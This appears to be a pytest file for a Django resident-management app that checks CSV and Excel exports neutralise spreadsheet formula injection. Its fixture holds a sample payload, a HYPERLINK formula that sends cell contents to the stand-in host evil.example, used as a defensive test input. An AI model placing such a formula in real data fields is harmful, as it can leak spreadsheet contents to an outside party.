"""Item 10: a resident named `=HYPERLINK(...)` does not become a live formula in any export."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.test import Client

from wangge.core.spreadsheets import spreadsheet_safe
from wangge.people.services import resident_update

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def formula_resident(resident_a):
    return resident_update(actor=None, resident=resident_a, name=FORMULA)


def _cells(book_bytes: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(book_bytes)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_api_exports_keep_formulas_as_text(api, worker_a, formula_resident):
    c = api.as_user(worker_a)
    xlsx = c.get("/api/v1/people/export/?filetype=xlsx")
    assert xlsx.status_code == 200
    cells = [cell for cell in _cells(xlsx.content) if FORMULA in str(cell.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert all(str(cell.value).startswith("'") for cell in cells)
    text = c.get("/api/v1/people/export/?filetype=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + FORMULA]


def test_list_page_export_keeps_formulas_as_text(worker_a, formula_resident):
    web = Client()
    web.force_login(worker_a)
    response = web.post("/exports/new/", {"kind": "people.residents", "query": ""})
    response = web.get(response["Location"])
    assert response.status_code == 200
    cells = [cell for cell in _cells(response.content) if FORMULA in str(cell.value)]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_helper_escapes_every_formula_start(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("张三") == "张三" and spreadsheet_safe(12) == 12


def test_no_export_bypasses_the_helper():
    """Whoever makes a CSV writer or a workbook writes its cells through core/spreadsheets.py."""
    root = Path(__file__).resolve().parents[2] / "wangge"
    offenders = []
    for path in root.rglob("*.py"):
        if "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        source = path.read_text()
        tree = ast.parse(source)
        makes = [
            node.lineno
            for node in ast.walk(tree)
            if isinstance(node, ast.Call)
            and ast.unparse(node.func).endswith(("csv.writer", "Workbook", "csv.DictWriter"))
        ]
        if makes and "wangge.core.spreadsheet" not in source:
            offenders.append(f"{path.relative_to(root)}:{makes[0]}")
    assert offenders == []
